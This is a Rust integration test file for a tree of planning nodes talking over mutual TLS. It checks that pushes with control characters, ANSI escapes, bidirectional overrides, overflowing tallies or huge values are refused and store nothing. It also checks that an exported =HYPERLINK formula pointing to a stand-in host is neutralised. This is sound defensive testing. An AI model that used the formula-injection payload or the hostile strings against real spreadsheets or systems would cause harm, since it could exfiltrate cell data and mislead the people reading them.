@@ -1,0 +1,420 @@
+//! Trust at every boundary (issue 10): what a child pushes, what a parent sends down and what a
+//! stranger sends before it is known are checked like a local write, over real mutual TLS with
+//! real certificates, and a refusal writes nothing.
+
+use std::path::Path;
+
+use proptest::{prelude::*, strategy::ValueTree, test_runner::TestRunner};
+use quyhoach::{
+    auth::Role,
+    client,
+    config::RawConfig,
+    config::Tls as ClientTls,
+    domain::{self, BallotRound, Body, Plan, PlanId, PlanStatus, Tally},
+    grpc::{
+        convert,
+        pb::{self, node_sync_client::NodeSyncClient, planning_client::PlanningClient},
+    },
+    node::system_clock,
+    pki::{self, Authority, Subject},
+    server::{self, Running},
+};
+use tonic::{transport::Channel, Code};
+
+use crate::harness::{entry, TERM};
+
+/// A province, a district and two communes, each with its own node certificate.
+pub struct Tree {
+    pub _dir: tempfile::TempDir,
+    pub ca: Authority,
+    pub province: Running,
+    pub district: Running,
+    pub commune: Running,
+    pub sibling: Running,
+}
+
+/// Starts a TLS node of `unit` whose certificate and key are in `dir/nodes`.
+pub async fn start_tls(dir: &Path, ca: &Authority, unit: &str, parent: Option<String>) -> Running {
+    let node = ca.issue(&Subject::node(unit, &[], 1)).unwrap();
+    pki::write(&dir.join("nodes"), unit, &node).unwrap();
+    std::fs::write(dir.join("ca.pem"), &ca.cert_pem).unwrap();
+    let config = RawConfig {
+        unit: Some(unit.into()),
+        listen: Some("127.0.0.1:0".into()),
+        data: Some(dir.join(unit)),
+        parent,
+        poll_ms: Some(30),
+        rate_limit: Some(100_000),
+        cert: Some(dir.join("nodes").join(format!("{unit}.pem"))),
+        key: Some(dir.join("nodes").join(format!("{unit}.key"))),
+        ca: Some(dir.join("ca.pem")),
+        ..RawConfig::default()
+    }
+    .validate()
+    .unwrap();
+    server::spawn(config, system_clock()).await.unwrap()
+}
+
+impl Tree {
+    pub async fn start() -> Tree {
+        let dir = tempfile::tempdir().unwrap();
+        let ca = Authority::create("test CA", 1).unwrap();
+        let province = start_tls(dir.path(), &ca, "40", None).await;
+        let district = start_tls(dir.path(), &ca, "412", Some(province.url())).await;
+        let commune = start_tls(dir.path(), &ca, "16681", Some(district.url())).await;
+        let sibling = start_tls(dir.path(), &ca, "16690", Some(district.url())).await;
+        Tree {
+            _dir: dir,
+            ca,
+            province,
+            district,
+            commune,
+            sibling,
+        }
+    }
+
+    pub fn identity(&self, unit: &str, roles: &[Role]) -> ClientTls {
+        let issued = if roles == [Role::Node] {
+            self.ca.issue(&Subject::node(unit, &[], 1)).unwrap()
+        } else {
+            self.ca
+                .issue(&Subject::new(unit, roles, "Nguyễn Văn Kiểm", 1))
+                .unwrap()
+        };
+        ClientTls {
+            ca_pem: self.ca.cert_pem.clone(),
+            cert_pem: issued.cert_pem,
+            key_pem: issued.key_pem,
+        }
+    }
+
+    pub async fn as_(&self, node: &Running, unit: &str, roles: &[Role]) -> PlanningClient<Channel> {
+        client::connect(&node.addr.to_string(), Some(&self.identity(unit, roles)))
+            .await
+            .unwrap()
+    }
+
+    pub async fn node_as(&self, node: &Running, unit: &str) -> NodeSyncClient<Channel> {
+        let ch = client::channel(
+            &node.addr.to_string(),
+            Some(&self.identity(unit, &[Role::Node])),
+        )
+        .await
+        .unwrap();
+        NodeSyncClient::new(ch)
+    }
+
+    pub async fn stop(self) {
+        for n in [self.commune, self.sibling, self.district, self.province] {
+            n.stop().await.unwrap();
+        }
+    }
+}
+
+/// A submitted plan of commune `unit` with `n` well-formed entries and one valid round.
+pub fn plan_of(unit: &str, n: u32) -> Plan {
+    let mut plan = Plan::new_draft(
+        PlanId {
+            unit: unit.into(),
+            term: TERM.into(),
+            version: 1,
+        },
+        None,
+    );
+    plan.entries = (1..=n)
+        .map(|i| {
+            convert::entry_from_pb("entry", entry(i, "Lê Văn Tám", "C.PCT.UBND", unit)).unwrap()
+        })
+        .collect();
+    plan.rounds = vec![BallotRound {
+        body: Body::ExecutiveCommittee,
+        date: chrono::NaiveDate::from_ymd_opt(2025, 3, 14).unwrap(),
+        convened: 30,
+        present: 28,
+        ballots_issued: 28,
+        valid_ballots: 27,
+        tallies: vec![Tally {
+            national_id: plan.entries[0].cadre.national_id.clone(),
+            position: "C.PCT.UBND".into(),
+            yes: 20,
+        }],
+    }];
+    plan
+}
+
+/// `plan` as its node would push it: submitted, with its content hash.
+fn sealed(mut plan: Plan) -> pb::Plan {
+    plan.status = PlanStatus::Submitted;
+    plan.hash = Some(plan.content_hash());
+    convert::plan_to_pb(&plan)
+}
+
+async fn push(s: &mut NodeSyncClient<Channel>, plan: Plan) -> Result<pb::Receipt, tonic::Status> {
+    s.push(pb::PushRequest {
+        from_unit: plan.id.unit.clone(),
+        plan: Some(sealed(plan)),
+    })
+    .await
+    .map(|r| r.into_inner())
+}
+
+/// Every plan the district holds, as its reader sees them.
+async fn held(reader: &mut PlanningClient<Channel>) -> Vec<pb::Plan> {
+    crate::harness::everything(reader).await
+}
+
+#[tokio::test]
+async fn a_poisoned_push_is_refused_by_field_and_nothing_is_stored() {
+    let t = Tree::start().await;
+    let mut s = t.node_as(&t.district, "16681").await;
+    let mut reader = t.as_(&t.district, "412", &[Role::Reader]).await;
+    let before = held(&mut reader).await;
+
+    type Poison = (&'static str, Box<dyn Fn(&mut Plan)>);
+    let cases: Vec<Poison> = vec![
+        (
+            "plan.entries[0].cadre.national_id",
+            Box::new(|p| p.entries[0].cadre.national_id = "040076000001€ab".into()),
+        ),
+        (
+            "plan.entries[0].cadre.national_id",
+            Box::new(|p| p.entries[0].cadre.national_id = "abc".into()),
+        ),
+        (
+            "plan.entries",
+            Box::new(|p| {
+                let e = p.entries[0].clone();
+                p.entries = (0..5_001u32)
+                    .map(|i| {
+                        let mut e = e.clone();
+                        e.cadre.national_id = format!("0400900{i:05}");
+                        e
+                    })
+                    .collect();
+            }),
+        ),
+        (
+            "plan.entries[0].cadre.full_name",
+            Box::new(|p| p.entries[0].cadre.full_name = "Lê\u{0}Văn\u{1b}[2JTám".into()),
+        ),
+        (
+            "plan.entries[0].cadre.full_name",
+            Box::new(|p| p.entries[0].cadre.full_name = "Lê Văn \u{202E}máT".into()),
+        ),
+        (
+            "plan.entries[0].position",
+            Box::new(|p| p.entries[0].position = "C.XYZ".into()),
+        ),
+        (
+            "plan.entries[0].cadre.current_unit",
+            Box::new(|p| p.entries[0].cadre.current_unit = "99999".into()),
+        ),
+        (
+            "plan.rounds[0].convened",
+            Box::new(|p| {
+                let r = &mut p.rounds[0];
+                r.convened = 0;
+                r.tallies[0].yes = 4_000_000_000;
+            }),
+        ),
+        (
+            "plan.rounds[0].tallies[0].yes",
+            Box::new(|p| p.rounds[0].tallies[0].yes = 4_000_000_000),
+        ),
+    ];
+    for (field, poison) in cases {
+        let mut plan = plan_of("16681", 2);
+        poison(&mut plan);
+        let status = push(&mut s, plan).await.expect_err(field);
+        assert_eq!(
+            status.code(),
+            Code::InvalidArgument,
+            "{field}: {}",
+            status.message()
+        );
+        assert!(
+            status.message().contains(field),
+            "{:?} does not name {field}",
+            status.message()
+        );
+        assert!(status.message().len() < 400, "{}", status.message().len());
+    }
+    assert_eq!(
+        held(&mut reader).await,
+        before,
+        "a refused push stores nothing"
+    );
+
+    // The well-formed plan still goes through, and the consolidated list reads it.
+    push(&mut s, plan_of("16681", 2)).await.unwrap();
+    let list = reader
+        .consolidated(pb::ConsolidatedRequest::default())
+        .await
+        .unwrap()
+        .into_inner();
+    assert_eq!(list.entries.len(), 2);
+    t.stop().await;
+}
+
+/// A well-formed plan with some of its fields replaced by mostly hostile values.
+fn hostile_plan() -> impl Strategy<Value = Plan> {
+    let text = prop_oneof![
+        Just("Lê Văn Tám".to_string()),
+        Just(String::new()),
+        Just("040076000001€ab".to_string()),
+        "\\PC{0,16}",
+        "[0-9]{11,13}",
+        "[\\x00-\\x1f\\u{202a}-\\u{202e}a-z ]{1,12}",
+    ];
+    (
+        prop::option::of(text.clone()),
+        prop::option::of(text.clone()),
+        prop::option::of(prop_oneof![
+            Just("C.PCT.UBND".to_string()),
+            Just("C.BT".to_string()),
+            Just("D.BT".to_string()),
+            text.clone()
+        ]),
+        prop::option::of(prop_oneof![
+            Just("16681".to_string()),
+            Just("99999".to_string()),
+            text
+        ]),
+        prop::option::of((0u32..50, 0u32..50, 0u32..50, 0u32..50, any::<u32>())),
+    )
+        .prop_map(|(id, name, position, unit, counts)| {
+            let mut plan = plan_of("16681", 2);
+            let e = &mut plan.entries[1].cadre;
+            if let Some(id) = id {
+                e.national_id = id;
+            }
+            if let Some(name) = name {
+                e.full_name = name;
+            }
+            if let Some(unit) = unit {
+                e.current_unit = unit;
+            }
+            if let Some(position) = position {
+                plan.entries[1].position = position;
+            }
+            if let Some((convened, present, issued, valid, yes)) = counts {
+                let r = &mut plan.rounds[0];
+                (r.convened, r.present, r.ballots_issued, r.valid_ballots) =
+                    (convened, present, issued, valid);
+                r.tallies[0].yes = yes;
+            }
+            plan
+        })
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn random_pushes_from_a_real_child_certificate_never_write_when_refused() {
+    let t = Tree::start().await;
+    let mut s = t.node_as(&t.district, "16681").await;
+    let mut reader = t.as_(&t.district, "412", &[Role::Reader]).await;
+    let mut runner = TestRunner::new(ProptestConfig::default());
+    let strategy = prop::collection::vec(hostile_plan(), 60);
+    let plans = strategy.new_tree(&mut runner).unwrap().current();
+    let (mut refused, mut taken) = (0, 0);
+    for plan in plans {
+        let before = held(&mut reader).await;
+        let local = plan.clone();
+        match push(&mut s, plan).await {
+            Err(status) => {
+                refused += 1;
+                assert_eq!(held(&mut reader).await, before, "{}", status.message());
+            }
+            Ok(_) => {
+                taken += 1;
+                // What was taken passes the very checks a local write passes.
+                let catalog = quyhoach::config::builtin_catalog().unwrap();
+                let hierarchy = quyhoach::config::load_units("builtin:2024").unwrap();
+                let today = chrono::Utc::now().date_naive();
+                domain::validate::Context {
+                    catalog: &catalog,
+                    hierarchy: &hierarchy,
+                    today,
+                }
+                .plan("plan", &local)
+                .unwrap();
+            }
+        }
+    }
+    assert!(refused > 20, "refused {refused}, taken {taken}");
+    // Every read still works on whatever was taken.
+    reader
+        .consolidated(pb::ConsolidatedRequest::default())
+        .await
+        .unwrap();
+    t.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_exported_formula_is_inert_and_the_file_is_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let node = crate::harness::start(dir.path(), "40", None, "builtin:2024").await;
+    let mut c = crate::harness::client(&node).await;
+    let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Xem\")";
+    crate::harness::draft_with(
+        &mut c,
+        "40",
+        vec![crate::harness::province_entry(1, formula)],
+    )
+    .await;
+    for ext in ["csv", "xlsx"] {
+        let out = dir.path().join(format!("x.{ext}"));
+        let status = std::process::Command::new(env!("CARGO_BIN_EXE_quyhoach"))
+            .args(["export", "--node", &node.addr.to_string(), "--what", "plan"])
+            .args(["--unit", "40", "--term", TERM, "--out"])
+            .arg(&out)
+            .status()
+            .unwrap();
+        assert!(status.success());
+        let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{ext} holds full national IDs");
+        if ext == "csv" {
+            let text = std::fs::read_to_string(&out).unwrap();
+            assert!(text.contains("'=HYPERLINK("), "{text}");
+            assert!(
+                !text.contains(",=HYPERLINK(") && !text.contains("\"=HYPERLINK("),
+                "{text}"
+            );
+        }
+    }
+    node.stop().await.unwrap();
+}
+
+#[tokio::test]
+async fn a_huge_value_is_quoted_only_by_its_first_characters() {
+    let t = Tree::start().await;
+    let mut clerk = t.as_(&t.commune, "16681", &[Role::Clerk]).await;
+    let huge = "9".repeat(100_000);
+    let refused = clerk
+        .create_draft(pb::CreateDraftRequest {
+            unit: huge.clone(),
+            term: TERM.into(),
+        })
+        .await
+        .unwrap_err();
+    assert!(refused.message().contains("unit"), "{}", refused.message());
+    assert!(
+        refused.message().len() < 500,
+        "{} bytes",
+        refused.message().len()
+    );
+    let mut reader = t.as_(&t.district, "412", &[Role::Reader]).await;
+    let refused = reader
+        .consolidated(pb::ConsolidatedRequest {
+            under: huge,
+            ..Default::default()
+        })
+        .await
+        .unwrap_err();
+    assert!(
+        refused.message().len() < 500,
+        "{} bytes",
+        refused.message().len()
+    );
+    t.stop().await;
+}
